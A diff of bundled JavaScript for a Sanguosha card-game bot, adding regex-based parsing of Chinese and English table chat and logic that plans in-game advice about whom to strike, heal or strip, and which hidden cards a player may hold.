 const OF_PEOPLE = /[反忠内人活剩]|还有|身份|\b(?:left|alive|reb(?:el)?s?|loyal\w*|spy|spies|traitors?|players?|people|of us|of them)\b/;
 const OF_DEEDS2 = /[张牌次下刀血点滴]|\b(?:cards?|times|points?|hp)\b/;
 const HOARDED = /[攒囤憋压].{0,4}[张牌]|[张牌].{0,4}(?:不出|囤|攒|憋|下崽)/;
+const BORNE_OUT2 = /(?:吧|对不对|是不是|没错)[?]*$|\b(?:right|huh|correct|yeah)\W*$/;
 const DECK = /牌堆|\bthe deck\b/;
 function planByAct(move, asked) {
 	const { moves, text, me, scene } = asked;
@@ -41753,8 +42534,10 @@ function planByAct(move, asked) {
 		}
 		case "ask_plan":
 			return intentPlan(move, asked);
-		case "ask_rule":
-			return rulePlan(move, asked);
+		case "ask_rule": {
+			const told = BORNE_OUT2.test(text) ? moves.find(({ act, facts = [] }) => act === "report" && facts.some(isWhole3)) : void 0;
+			return told ? reportPlan(told, asked) : rulePlan(move, asked);
+		}
 		case "ask_self":
 			return { move: "topic", clause: "truth", occasion: "small_talk", topic: "self", asked: move };
 		case "report": {
@@ -41836,6 +42619,340 @@ function blameShared(move, { scene, from }) {
 	return done.length > 0 ? { move: "confirm", clause: "confirm", occasion: "point_at", about, facts: done, asked: move } : null;
 }
 
+// src/chatter/moves/alternatives.ts
+const OR = /(?<![不或就要可]|总是?)还是(?!不(?:够|行|太)|[\d一二两三四五六七八九十几][滴血点张格]|[没很太那有老个得被]|我?觉得|先?(?:算了|别))|(?<=是(?:桃|闪|杀|酒|无懈|牌|[忠反内])),?(?:还)?是(?=(?:桃|闪|杀|酒|无懈|[忠反内])(?!了))|\bor\b(?! (?:what|not|something|nah|else|so|whatever|whoever|anything|more|less|two)\b)/g;
+const ENDS2 = /[,.!?;:~]|(?<=[\u3400-\u9fff]) (?=[\u3400-\u9fff\d])/g;
+const LEADS_OVER = /[呢啊呀吧嘛,?\s]+$/;
+const OVER4 = /[打杀砍拆顺救收烧](?:过|了(?![他她它你我]|$))|过的|的是|刚|上(?:一|个|两)*(?:轮|回合|次)|\b(?:did|was|were|has|had|last (?:turn|round))\b/;
+const ASKS_EN = /\?|\b(?:who|whom|which|pick|tell me|choose|should (?:i|we)|do (?:i|we)|my (?:go|turn)|bets|wdyt|thoughts|help me)\b/;
+const ROLE4 = "(?:忠臣?|反贼?|内奸?|好人|坏人|loyal(?:ist)?|good (?:guy|egg)|rebel|reb|red|spy|traitor)";
+const ROLE_LEFT = new RegExp(`${ROLE4}[呢啊的]?$`);
+const ROLE_RIGHT = new RegExp(`^(?:是|个|an? |the )*${ROLE4}`);
+const FIRST6 = /先(?:手|上|动|来|出手|打|砍)|\bfirst\b/;
+const BARE4 = /^(?:是|在|先|选|挑|就|the|again|it|first|now|,|\s|[呢啊呀吧嘛的])*$/;
+const sideOf2 = (text, begin, to, mentions) => {
+	const from = begin + (/^\s*/.exec(text.slice(begin, to))?.[0].length ?? 0);
+	return {
+		text: text.slice(from, to).trimEnd(),
+		mentions: mentions.filter(({ start, end, kind }) => start >= from && end <= to && kind !== "nobody").map((one) => ({ ...one, start: one.start - from, end: one.end - from }))
+	};
+};
+const masked = (text, mentions) => mentions.reduceRight((rest, { start, end }) => `${rest.slice(0, start)} ${rest.slice(end)}`, text);
+const isBare4 = ({ text, mentions }) => mentions.length > 0 && BARE4.test(masked(text, mentions));
+const isCard = ({ text }, end) => cardsIn(text).some(
+	({ card, start, end: to }) => CARDS.has(card) && (end === "left" ? to === text.length : start < 3)
+);
+const CARDS = new Set(["sha", "shan", "tao", "jiu", "wuxie"]);
+function alternativesIn(text, mentions) {
+	const named = masked(text, mentions);
+	for (const or of [...text.matchAll(OR)].reverse()) {
+		const till = text.slice(0, or.index).replace(LEADS_OVER, "").length;
+		const starts = [...text.slice(0, till).matchAll(ENDS2)].map(({ index }) => index + 1);
+		const from = starts[starts.length - 1] ?? 0;
+		const then = or.index + or[0].length;
+		const ends = [...text.slice(then).matchAll(ENDS2)].map(({ index }) => then + index).find((at) => at > then + 1);
+		const left = sideOf2(text, from, till, mentions);
+		const right = sideOf2(text, then, ends ?? text.length, mentions);
+		if (left.text === "" || right.text === "") continue;
+		const found = { sides: [left, right], before: sideOf2(text, 0, from, mentions), cards: [] };
+		if (ROLE_LEFT.test(left.text) && ROLE_RIGHT.test(right.text)) return { ...found, of: "roles" };
+		if (isCard(left, "left") && isCard(right, "right")) {
+			const cards = [left, right].flatMap(
+				({ text: of }, i) => cardsIn(of).slice(...i === 0 ? [-1] : [0, 1]).map(({ card, start, end }) => ({ card, said: of.slice(start, end) }))
+			);
+			return { ...found, of: "cards", cards };
+		}
+		if (OVER4.test(left.text) || OVER4.test(right.text) || ANY_ROLE.test(named)) continue;
+		if (or[0] === "or" && !ASKS_EN.test(text)) continue;
+		const firsts = [left, right].map(firstIn);
+		if (FIRST6.test(right.text) && firsts.every((one) => one !== void 0) && firsts[0] !== firsts[1])
+			return { ...found, of: "turns" };
+		return { ...found, of: isBare4(right) ? "persons" : "courses" };
+	}
+	return null;
+}
+const firstIn = ({ text, mentions }) => mentions.find(({ end }) => /^(?:先(?:手|上|动|来|出手|打|砍)| (?:go )?first)/.test(text.slice(end)))?.seat ?? void 0;
+
+// src/chatter/plan/hidden-card.ts
+const HOLDS = /(?:猜|觉得|你说|你看|赌|押).*(?:有|攥|捏|憋|藏|留)(?:着|了)?(?:没有|张|个)?(桃|闪|无懈)|\b(?:think|reckon|bet|guess|say)\b.*\b(?:hold|has|have|got|keep|hid|sitting on)\w*\b.*\b(peach|dodge|nullif)/;
+function heldCard(text, mentions, move, asked) {
+	const held = HOLDS.exec(text);
+	if (held === null) return null;
+	const said = { zh: "没有", en: "none" }[/[\u3400-\u9fff]/.test(held[0]) ? "zh" : "en"];
+	const card = /桃|peach/.test(held[0]) ? "tao" : /闪|dodge/.test(held[0]) ? "shan" : "wuxie";
+	const before = { text, mentions: mentions.filter(({ kind }) => kind !== "you") };
+	const plan = cardChosen(
+		{
+			of: "cards",
+			before,
+			sides: [NONE3, NONE3],
+			cards: [
+				{ card: "", said },
+				{ card, said }
+			]
+		},
+		move,
+		asked
+	);
+	return plan?.clause === "card_blind" && move ? { ...hiddenHand(plan.about ?? asked.me, move, asked), lookedUp: true } : plan;
+}
+const NONE3 = { text: "", mentions: [] };
+function cardChosen({ before, sides, cards }, move, asked) {
+	const { scene, me, from } = asked;
+	const named = [...before.mentions, ...sides[0].mentions].filter(
+		({ kind, seat, called }) => seat !== null && seat !== from && (kind === "seat" || kind === "he" || kind === "you") && !called
+	);
+	const holder = named[named.length - 1]?.seat;
+	if (holder == null || move === null) return null;
+	if (holder === me) return { ...hiddenHand(me, move, asked), lookedUp: true };
+	const seat = seatOf(scene, holder);
+	if (!seat?.alive) return null;
+	const base = { move: "guess", occasion: "ack", asked: move, about: holder, lookedUp: true };
+	const other = (card) => (cards.find((one) => one.card !== card) ?? cards[0])?.said ?? "";
+	const has = (card) => cards.some((one) => one.card === card);
+	const moved = scene.lastTurns.get(holder) ?? 0;
+	const hits = scene.facts.filter(({ kind, to }) => kind === "hit" && to === holder);
+	const last = hits[hits.length - 1];
+	if (has("tao") && seat.hp < seat.maxHp && last && last.turn < moved && moved <= scene.turn)
+		return { ...base, clause: "card_unhealed", words: other("tao") };
+	if (has("shan") && last?.card === "sha" && last.turn >= moved)
+		return { ...base, clause: "card_unblocked", words: other("shan"), facts: [last] };
+	return { ...base, clause: "card_blind", words: cards[0]?.said ?? "" };
+}
+
+// src/chatter/plan/choosing.ts
+const STRIP = /[拆顺弃]|过河|\b(?:dismantl|strip|snatch|steal)/;
+const LOCK = /乐|兵粮|贴兵|\b(?:lebu|indulge|contentment|supply shortage)\b/;
+const HELP3 = /[保救捞护奶喂]|兜底|补血|\b(?:save|heal|patch|help|cover|peach|protect|guard)\b/;
+const EAT = /自己(?:先)?(?:吃|喝|用|补|留)|\b(?:eat|drink|myself)\b/;
+const HOLD2 = /留|[等稳攒忍怂苟缩憋养]|观望|不[打动出用放上]|再看|\b(?:hold|wait|sav(?:e|ing) (?:it|up|cards?|my)|sit|stay|turtle|keep(?! \w+ing)|leave|not|chill)\b/;
+const ALL = /南蛮|万箭|\b(?:barrage|arrows?|aoe|nanman|wanjian|barbarians?|savages?)\b/;
+const HIT = /[打杀砍收捅动弄搞冲怼莽按磨管灭秒刀削揍追集压烧]|决斗|火攻|\b(?:hit|kill|slash|strike|attack|finish|burst|smack|nuke|duel|burn|poke|poking|unload|swing|go|push|focus|spend)/;
+const KINDS10 = [
+	["all", ALL],
+	["hold", /^(?:先|就)?不/],
+	["strip", STRIP],
+	["lock", LOCK],
+	["eat", EAT],
+	["help", HELP3],
+	["hold", HOLD2]
+];
+const AIMS = /[对冲往找]|\b(?:going for|aims?|aiming|first|target)\b/;
+const ELSE5 = /别人|别的人|其他人|换(?:个)?人|\b(?:some|any)(?:one|body) else\b/;
+const LESS_HP = 0.6;
+const MANY2 = 3;
+const ARMOUR = ["bagua", "renwang", "tengjia", "baiyin"];
+function worthOf(kind, seat, asked, whose) {
+	const { scene, me } = asked;
+	if (seat === me && kind !== "help") return -9;
+	const taken = seat === void 0 ? "unknown" : takenFor(seat, asked);
+	const hp = seat === void 0 ? 4 : hpOf(asked, seat);
+	const hand = seatOf(scene, seat ?? null)?.turnHand ?? 0;
+	const foe = taken === "enemy" ? 2 + asked.view.guess(seat ?? me).confidence : taken === "unknown" ? 0.5 : -3;
+	const own = seatOf(scene, whose);
+	switch (kind) {
+		case "hit":
+			return foe + LESS_HP * Math.max(0, 4 - hp) - (isBound(seat ?? me, asked) ? 4 : 0);
+		case "strip":
+			return foe + (hand >= MANY2 || seat === void 0 ? 1 : 0) + (armourOf(seat, asked) === void 0 ? 0 : 1.5);
+		case "lock":
+			return foe + (hand >= MANY2 ? 1.5 : 0);
+		case "help":
+			return taken === "enemy" ? -3 : hp <= 1 ? 4.5 : hp <= LOW3 ? 2.5 : 0.5;
+		case "eat":
+			return own && own.hp < own.maxHp ? 1.5 + LESS_HP * Math.max(0, 4 - own.hp) : -9;
+		case "all":
+			return frailest(asked, whose) === void 0 ? 2 : -2;
+		case "hold":
+			return hpOf(asked, whose) <= 1 ? 3.4 : 1;
+	}
+}
+const armourOf = (seat, { scene }) => seat === void 0 ? void 0 : wornBy(seat, scene).find((card) => ARMOUR.includes(card));
+const frailest = (asked, whose) => living(asked.scene).map(({ seat }) => seat).filter((seat) => seat !== whose && hpOf(asked, seat) <= LOW3 && takenFor(seat, asked) === "friend").sort((a, b) => hpOf(asked, a) - hpOf(asked, b))[0];
+function coursesOf(side, before, asked, whose) {
+	const { scene, me } = asked;
+	const { text } = side;
+	const mentions = isBare4(side) ? side.mentions.map((one) => ({ ...one, called: false })) : side.mentions;
+	const seatsIn = (all) => [
+		...new Set(
+			all.flatMap(
+				({ kind: kind2, seat, called }) => (kind2 === "seat" || kind2 === "he" || kind2 === "you" && seat === me) && !called && seat !== null && seat !== whose ? [seat] : []
+			)
+		)
+	];
+	const own = seatsIn(mentions).filter((seat) => seatOf(scene, seat)?.alive);
+	if (ELSE5.test(text)) {
+		const known = new Set([...seatsIn(before.mentions), whose, me]);
+		return living(scene).flatMap(
+			({ seat }) => !known.has(seat) && takenFor(seat, asked) === "enemy" ? [{ kind: "hit", seat, worth: worthOf("hit", seat, asked, whose) }] : []
+		);
+	}
+	const open = mentions.some(({ kind: kind2 }) => kind2 === "who") || /哪个|几号/.test(text);
+	const isHelp = HELP3.test(text) && (own.length > 0 || /人|主/.test(text));
+	const [kind] = KINDS10.find(([is, words]) => words.test(text) && (is !== "all" || !HOLD2.test(text)) && (is !== "help" || isHelp)) ?? (own.length > 0 || open || HIT.test(text) ? ["hit"] : []);
+	if (kind === void 0) return [];
+	const last = seatsIn(before.mentions).filter((seat) => seatOf(scene, seat)?.alive);
+	const worn = kind === "strip" ? last.filter((seat) => cardsIn(text).some(({ card }) => wornBy(seat, scene).includes(card))) : [];
+	const named = worn.length > 0 ? worn : own.length > 0 ? own : open ? last : last.slice(-1);
+	const seats = kind === "hold" || kind === "eat" || kind === "all" ? [void 0] : kind === "help" ? [own[0] ?? scene.table.lord] : named.length > 0 ? named : [void 0];
+	return seats.filter((seat) => seat !== void 0 || kind === "hold" || kind === "eat" || kind === "all" || kind === "strip").map((seat) => ({ kind, seat, worth: worthOf(kind, seat, asked, whose) }));
+}
+function choicePlan(move, asked) {
+	const { scene, me, from, meant, moves } = asked;
+	const text = asked.spaced ?? asked.text;
+	const mentions = mentionsIn(text, { scene, from, hearer: meant ? me : null, he: spokenOf2(asked) });
+	const choice = alternativesIn(text, mentions);
+	if (choice === null) return heldCard(text, mentions, move, asked);
+	const base = { occasion: "ask_act", asked: move, lookedUp: true, ...move ? taking(move) : {} };
+	if (moves.some(({ act }) => act === "ask_rule" || act === "ask_fact") && !mentions.some(({ kind }) => kind === "seat"))
+		return null;
+	if (choice.of === "roles") return roleChosen(choice, move, asked);
+	if (choice.of === "cards") return cardChosen(choice, move, asked);
+	if (choice.of === "turns") {
+		const [one, other] = choice.sides.map(firstIn);
+		const first = sooner(one ?? me, other ?? me, asked);
+		return { ...base, move: "explain", clause: "advise_turn", about: first };
+	}
+	const acts = `${choice.before.text} ${choice.sides.map((side) => side.text).join(" ")}`;
+	if (![HIT, STRIP, LOCK, HELP3, AIMS].some((one) => one.test(acts))) return null;
+	const subjects = [...choice.before.mentions, ...choice.sides.flatMap((side) => side.mentions)];
+	const mine = subjects.some(({ kind }) => kind === "self") || /咱|先|\b(?:we|my)\b/.test(text);
+	const asker = choice.before.mentions.filter(({ kind }) => kind === "who").pop();
+	const third = choice.before.mentions.filter(({ kind, seat, called }) => (kind === "seat" || kind === "he") && !called && seat !== from).pop();
+	const aims = third?.kind === "he" && (third.seat === me || third.seat === null) ? scene.turnOf : third?.seat;
+	if (choice.of === "persons" && asker && aims != null && aims !== me && aims !== from && !/我|\bi\b/.test(choice.before.text))
+		return aimChosen(aims, choice, base, asked);
+	if (moves.some(({ act }) => act === "ask_role")) return null;
+	const yours = !mine && meant && (subjects.some(({ kind }) => kind === "you") || /轮到|该你|到你/.test(text));
+	const whose = yours ? me : from;
+	const sides = choice.sides.map(
+		(side, i) => coursesOf(
+			side,
+			i === 0 ? choice.before : { text: "", mentions: [...choice.before.mentions, ...choice.sides[0].mentions] },
+			asked,
+			whose
+		)
+	);
+	if (sides.some((side) => side.length === 0)) return null;
+	const all = sides.flat();
+	if (new Set(all.map(({ kind, seat }) => `${kind}/${seat}`)).size < 2) return null;
+	return courseChosen(
+		[...all].sort((a, b) => b.worth - a.worth),
+		base,
+		whose,
+		asked
+	);
+}
+function courseChosen([best, next], base, whose, asked) {
+	if (best === void 0 || best.worth <= -1) return null;
+	const plan = { ...base, move: "explain" };
+	const { kind, seat } = best;
+	const frail = next?.kind === "all" || kind === "hold" ? frailest(asked, whose) : void 0;
+	switch (kind) {
+		case "hold":
+			return hpOf(asked, frail ?? whose) <= LOW3 ? { ...plan, clause: "advise_hold", about: frail ?? whose } : { ...plan, clause: "advise_wait" };
+		case "eat":
+			return { ...plan, clause: "advise_eat", about: whose };
+		case "all":
+			return { ...plan, clause: "advise_all" };
+		case "help": {
+			if (next?.kind === "eat" && next.worth < 0) return { ...plan, clause: "advise_keep", about: whose };
+			const whom = seat ?? asked.scene.table.lord;
+			return hpOf(asked, whom) <= LOW3 ? { ...plan, clause: "advise_help", about: whom } : null;
+		}
+		case "strip":
+			return seat === void 0 ? { ...plan, clause: "advise_wait" } : stripping(seat, plan, asked);
+		case "lock":
+			return seat === void 0 ? null : { ...plan, clause: "advise_lock", about: seat };
+		case "hit":
+			return seat === void 0 ? null : striking(seat, plan, asked);
+	}
+}
+const stripping = (seat, plan, asked) => {
+	const gear = armourOf(seat, asked);
+	return gear === void 0 ? { ...plan, clause: "advise_strip", about: seat } : { ...plan, clause: "advise_bare", about: seat, not: gear };
+};
+function striking(seat, plan, asked) {
+	const taken = takenFor(seat, asked);
+	const facts = taken === "enemy" ? against(seat, asked) : [];
+	if (taken === "unknown") return { ...plan, clause: "advise_lean", about: seat };
+	if (hpOf(asked, seat) <= LOW3 || facts.length === 0) return { ...plan, clause: "advise_low", about: seat };
+	return { ...plan, clause: "advise_hit", about: seat, facts };
+}
+function sooner(one, other, { scene }) {
+	const order = living(scene).map(({ seat }) => seat);
+	const now = Math.max(
+		0,
+		order.findIndex((seat) => seat === scene.turnOf)
+	);
+	const wait = (seat) => (order.indexOf(seat) - now + order.length) % order.length;
+	return wait(one) <= wait(other) ? one : other;
+}
+function aimChosen(third, { sides }, base, asked) {
+	const victims = sides.flatMap(
+		({ mentions }) => mentions.flatMap(({ seat }) => seat === null || seat === third ? [] : [seat])
+	);
+	const struck = victims.map((seat) => ({ seat, harm: between(asked.scene, third, seat, isHarm) })).sort((a, b) => b.harm.length - a.harm.length || hpOf(asked, a.seat) - hpOf(asked, b.seat));
+	const [most] = struck;
+	if (most === void 0 || struck.length < 2) return null;
+	return most.harm.length > 0 ? { ...base, move: "explain", clause: "aims_at", about: most.seat, facts: most.harm.slice(0, 1) } : { ...base, move: "explain", clause: "aims_low", about: most.seat };
+}
+function roleChosen({ before, sides }, move, asked) {
+	const { from, moves } = asked;
+	if (moves.some(({ act, facts }) => act === "ask_guess" || act === "ask_role" || facts)) return null;
+	const all = [...before.mentions, ...sides[0].mentions].filter(
+		({ kind, called, seat }) => (kind === "seat" || kind === "he") && !called && seat !== null && seat !== from
+	);
+	const about = all[all.length - 1]?.seat;
+	if (about == null) return null;
+	const span = move?.span ?? [0, asked.text.length];
+	return { ...guessPlanFor({ act: "ask_guess", about, span }, asked), lookedUp: true };
+}
+
+// src/chatter/plan/counsel.ts
+const INTENDS2 = /我(?:打算|准备|想|寻思|要|先|这就|喝口?酒|来|去|拿)|轮到我|到我了|该我了|\b(?:thinking|i'?m (?:gonna|going to)|im (?:gonna|going to)|should (?:i|we)|can (?:i|we)|shall (?:i|we)|do (?:i|we)|i finish|my (?:go|turn)|im up)\b/;
+const VIEW = /(?:有(?:没有)?意见|(?:觉得|你看|你说)(?:咋|怎么)?(?:样|行不)|咋样|如何|怎么样|(?:行|成|可以|合适|稳|值|亏|划算)(?:不|吗|么|没)(?:[,.!?]|$)|值不值|亏不亏|妥不妥|行不行|稳不稳)|\bworth (?:it|the|a)\b|\bgood or\b|\byes\? ?no\b|\bor nah\b|\bthoughts\b|\bbetter idea\b|\bobjections\b|\b(?:good|bad) (?:idea|call|move)\?|\b(?:you|u) (?:think|reckon)\b/;
+const WHETHER4 = /([打杀砍收补烧拆动])不\1(?!死|动|了|过)/;
+const FIRE2 = /火|烧|\b(?:fire|burn)/;
+const STRIKES = /[杀砍刀]|\b(?:slash|hit|strike)/;
+function counselPlan(move, asked) {
+	const { scene, me, from, moves } = asked;
+	const text = asked.spaced ?? asked.text;
+	if (move === null || !(INTENDS2.test(text) && VIEW.test(text) || WHETHER4.test(text) && !/[你们]/.test(text)))
+		return null;
+	if (moves.some((one) => isQuestion(one) && !VIEWS.has(one.act))) return null;
+	const mentions = mentionsIn(text, { scene, from, hearer: me, he: spokenOf2(asked) });
+	const words = masked(text, mentions);
+	if (ANY_ROLE.test(words) || !(ANY_HARM.test(words) || /[收动补烧]|来一下|\b(?:slash|burn|finish|fire|duel)/.test(words)))
+		return null;
+	const seats = mentions.flatMap(
+		({ kind, seat, called }) => (kind === "seat" || kind === "he") && !called && seat !== null && seat !== from && seat !== me && seatOf(scene, seat)?.alive ? [seat] : []
+	);
+	const others = mentions.some(
+		({ kind, seat, called }) => kind === "seat" && !called && seat !== scene.table.lord && seat !== from
+	);
+	if (others) seats.splice(0, seats.length, ...seats.filter((seat) => seat !== scene.table.lord));
+	const about = seats.find((seat) => takenFor(seat, asked) === "enemy") ?? seats[0];
+	if (about === void 0) return null;
+	const base = { occasion: "ask_act", asked: move, about, lookedUp: true, ...taking(move) };
+	switch (takenFor(about, asked)) {
+		case "friend": {
+			const facts = goodOf(about, asked);
+			return { ...base, move: "explain", clause: facts.length > 0 ? "advise_not" : "wont_strike", facts };
+		}
+		case "unknown":
+			return { ...joining(about, move, asked), lookedUp: true };
+		case "enemy": {
+			const armour = armourOf(about, asked);
+			if (armour === "tengjia" && FIRE2.test(words)) return { ...base, move: "explain", clause: "advise_burn" };
+			if ((armour === "bagua" || armour === "renwang") && STRIKES.test(words) && !/拆|dismantle/.test(words))
+				return { ...base, move: "explain", clause: "advise_bare", not: armour };
+			return striking(about, { ...base, move: "explain" }, asked);
+		}
+	}
+}
+const VIEWS = new Set(["ask_plan", "ask_guess"]);
+
 // src/chatter/plan/held.ts
 const HELD_WITH = new Set(["ask_count", "ask_sure", "ask_rule"]);
 function heldPlan(move, asked) {
@@ -41850,9 +42967,170 @@ function heldPlan(move, asked) {
 	return holder === null ? null : hiddenHand(holder, move, asked);
 }
 
+// src/chatter/plan/elliptic.ts
+const WHAT = {
+	aimed: "use",
+	hit: "hurt",
+	steal: "take",
+	discard: "take",
+	give: "give",
+	draw: "give",
+	heal: "heal",
+	rescue: "heal",
+	wuxie: "wuxie",
+	death: "kill"
+};
+function toldOf({ answered }, scene) {
+	const [fact = null] = (answered?.facts ?? []).map((id) => factOf(scene, id) ?? null);
+	const what = fact === null ? void 0 : WHAT[fact.kind];
+	if (fact === null || what === void 0) return null;
+	return {
+		wants: "who",
+		what,
+		...fact.by === null ? {} : { by: fact.by },
+		to: fact.to === null || fact.to === fact.by ? [] : [fact.to],
+		cards: fact.card !== null && (what === "use" || what === "wuxie") ? [fact.card] : [],
+		when: null,
+		all: false
+	};
+}
+const AMONG = /里头|里面|其中|当中|\b(?:of|among) (?:(?:th)?em|those|these)\b|\bany (?:on|at|for|to|from)\b/;
+const LANDED = /打?中了?(?!间)|[掉见]了?血|\b(?:land(?:ed)?|hit home|connect(?:ed)?|got through|went (?:in|through)|hurt)\b/;
+const POINTS3 = /[点滴格血]|\bmuch\b/;
+const MANY3 = /几(?!号)|多少|\bhow (?:many|much|often)\b/;
+const BEFORE_IT = /再?之前|往前|上上|\bbefore\b/;
+const FIRST7 = /第一|头一|最[先早]|\bfirst\b/;
+const ELSE6 = /别[人的]|其[他它]|另外|\b(?:else|others?|another)\b/;
+const EVERYBODY3 = /都|分别|各|\ball\b/;
+const WHETHER5 = /没有?$|[吗么不]$|^(?:还有|有)|\b(?:any|did|has|have)\b/;
+const WHO_DID2 = /\bwho did (?:it|that|this|the|those)\b/;
+const HE5 = "[他她它]";
+const IDLE_ZH = new RegExp(
+	`那|这|所以|然后|里头|里面|其中|当中|别[人的]|其[他它]|另外|到底|具体|一共|总共|分别|来着|第一|头一|最[先早后]|多少|没有|之前|往前|上上|打?中了|[掉见]了?血|还|又|再|也|各|自|都|有|是|的|了|过|没|吗|么|呢|啊|呀|吧|不|几|谁|哪|个|些|次|回|下|刀|张|滴|点|格|口|一|先|后|对|给|冲|朝|往|被|把|从|干|弄|搞|动|人|${HE5}`,
+	"g"
+);
+const IDLE_EN = /\b(?:and|so|n|but|ok|okay|wait|well|then|how|many|much|often|times?|cards?|of|among|(?:th)?em|those|these|that|this|it|the|a|ones?|is|was|were|are|did|do|does|ha[sd]|have|who|whom|whose|which|what|first|last|other|others|else|another|any|ever|again|before|on|at|to|from|by|for|me|him|her|s?he|they|i|you|u|in|all|total|exactly|each|even|actually|about|land(?:ed)?|hit home|connect(?:ed)?|got|went|through|hurt|us|got?)\b/g;
+const MARKS2 = /[^\u3400-\u9fffa-z0-9]+/g;
+const WAYS3 = { 顺: "shunshou", 烧: "huogong" };
+function kindLeft(rest) {
+	if (rest === "") return null;
+	const words = /[\u3400-\u9fff]/.test(rest) ? rest.length / 2 : rest.split(" ").length;
+	if (words > 1) return void 0;
+	return whatOf(`${rest}装备`, [], false) ?? (cardsIn(rest).length > 0 ? null : void 0);
+}
+function askedOn(line, mentions, before) {
+	const text = line.trim();
+	if (text.length > (/[\u3400-\u9fff]/.test(text) ? 12 : 36)) return null;
+	const named = mentions.filter(({ seat, kind: kind2 }) => seat !== null && kind2 !== "who");
+	const who = mentions.some(({ kind: kind2 }) => kind2 === "who");
+	const bare = [...mentions].reverse().reduce((left, { start, end }) => `${left.slice(0, start)} ${left.slice(end)}`, line);
+	const gear = /装备|武器|防具|\bgear\b/.test(bare);
+	const rest = bare.replace(/装备|武器|防具|\bgear\b/, " ").replace(IDLE_ZH, " ").replace(IDLE_EN, " ").replace(MARKS2, /[\u3400-\u9fff]/.test(bare) ? "" : " ").trim();
+	const kind = kindLeft(rest);
+	if (kind === void 0) return null;
+	const { rank: _rank, by, except: _except, said: _said, claimed: _claimed, ...kept } = before;
+	const doer = by === void 0 ? {} : { by };
+	const way = gear ? void 0 : WAYS3[rest];
+	const what = gear ? "take" : way !== void 0 ? "use" : kind ?? kept.what;
+	const of = {
+		...kept,
+		...doer,
+		what,
+		cards: way !== void 0 ? [way] : what === kept.what && !gear ? kept.cards : [],
+		all: false
+	};
+	const [one] = named;
+	if (one && named.length === 1 && ONLY_SOMEBODY.test(`${line.slice(0, one.start)}WHO${line.slice(one.end)}`.trim()))
+		return another(of, one.seat);
+	const wants = who ? null : MANY3.test(text) ? POINTS3.test(text) ? "points" : "times" : LANDED.test(text) && AMONG.test(text) ? "times" : WHETHER5.test(text) ? "whether" : null;
+	const rank = BEFORE_IT.test(text) ? "before" : FIRST7.test(text) ? "first" : void 0;
+	if (named.length === 0 && !who && rank === void 0 && (wants === null || wants === "whether")) return null;
+	if (!who && wants === null && rank === void 0 && !AMONG.test(text)) return null;
+	const landed = LANDED.test(text) && what === "use" ? "hurt" : what;
+	const base = { ...of, what: landed, ...rank === void 0 ? {} : { rank } };
+	const { asked, ...slots } = slotsOf2(line, mentions);
+	const others = ELSE6.test(text);
+	if (who) {
+		const all = EVERYBODY3.test(text) || rank === void 0 && kept.all;
+		if (asked === "to" && !WHO_DID2.test(text)) return { ...base, wants: "whom", to: [], all: true };
+		const { by: _by, ...rest2 } = base;
+		return { ...rest2, wants: "who", all, ...others && by !== void 0 ? { except: [by] } : {} };
+	}
+	const behind = rest === "" || !/[\u3400-\u9fff]/.test(rest) ? [] : named.filter(({ start }) => line.slice(0, start).endsWith(rest));
+	const whom = slots.to.length > 0 ? slots.to : behind.length > 0 ? behind.map(seatOf3) : /\bme\b/.test(text) ? named.slice(-1).map(seatOf3) : [];
+	const actor = slots.by !== void 0 && !whom.includes(slots.by) ? { by: slots.by } : {};
+	return {
+		...base,
+		...actor,
+		wants: wants ?? (rank === "before" ? kept.wants : "times"),
+		to: others ? [] : whom.length > 0 ? whom : base.to,
+		...others && base.to.length > 0 ? { except: base.to } : {}
+	};
+}
+const seatOf3 = ({ seat }) => seat ?? 0;
+const another = (of, seat) => seat === null ? null : of.by !== void 0 && of.to.length === 0 ? { ...of, by: seat } : { ...of, wants: of.wants === "points" ? "points" : "times", to: [seat] };
+
+// src/chatter/plan/record-asked.ts
+const FRESH5 = 1;
+function lastTold({ memory, from, me, scene }) {
+	const last = memory.exchanges(from, me).find(({ answered }) => answered !== null);
+	return last && scene.turn - last.turn <= FRESH5 && OF_DEEDS3.has(last.asked.act) ? toldOf(last, scene) : null;
+}
+const OF_DEEDS3 = new Set(["ask_fact", "ask_count", "ask_why", "report"]);
+const IS_LEFT = /还.?[几多]/;
+const IS_OVER = /[的了过]|没有?$|\b(?:did|was|were|\w+ed|got|all|any)\b/;
+function goesOnWith(asked) {
+	const { text, scene, from, me, memory } = asked;
+	const before = memory.sought(from) ?? (IS_OVER.test(text) && !YET_TO_COME2.test(text) ? lastTold(asked) : null);
+	if (before === null || YET_TO_COME2.test(text) || IS_LEFT.test(text)) return null;
+	return askedOn(text, mentionsIn(text, { scene, from, hearer: me, he: spokenOf2(asked) }), before);
+}
+function askedIn(asked) {
+	const { scene, from, me, memory } = asked;
+	const text = asked.spaced ?? asked.text;
+	const he = spokenOf2(asked);
+	const mentions = mentionsIn(text, { scene, from, hearer: me, he }).filter(
+		({ start, kind }) => kind !== "self" || !/^我(?:[去靠擦晕]|的天)(?![了过])/.test(text.slice(start))
+	);
+	const clauses = clausesOf(text).filter(({ text: one }) => !ASIDE2.test(one));
+	const on = goesOnWith(asked);
+	if (on) return on;
+	if (memory.sought(from) === null && !mayAskRecord(text)) return null;
+	const said = saidNumber(text);
+	for (const { start, end } of clauses) {
+		const within = mentions.filter((one2) => one2.start >= start && one2.end <= end).map((one2) => ({ ...one2, start: one2.start - start, end: one2.end - start }));
+		const one = ofRecord(text.slice(start, end), within, scene);
+		const before = text.slice(0, start);
+		if (one && one.by === void 0 && one.to.length + one.cards.length === 0 && FOLLOWS2.test(text)) {
+			const [last] = memory.exchanges(from, me);
+			const of = last?.answered?.about ?? last?.asked.about;
+			return of === void 0 ? null : { ...one, to: [of] };
+		}
+		if (one)
+			return withBefore(
+				// "谁打的小乐,都谁啊".
+				{ ...one, ...EVERYBODY2.test(text) ? { all: true } : {}, ...said ? { said: said.n } : {} },
+				slotsOf2(
+					before,
+					mentions.filter((at) => at.end <= start)
+				),
+				// "太后想借曹婴的刀,谁给她搅黄的", "that volley, who got hurt by it": of the card that was spoken of.
+				one.cards.length === 0 && one.what !== "kill" ? [
+					...new Set(
+						[...one.what === "give" ? [] : cardsIn(before), ...skillsIn(before, scene)].map(({ card }) => card)
+					)
+				] : []
+			);
+	}
+	const whole = clauses.length > 1 && clauses.length === clausesOf(text).length ? ofRecord(text, mentions, scene) : null;
+	return whole?.wants === "whether" ? null : whole;
+}
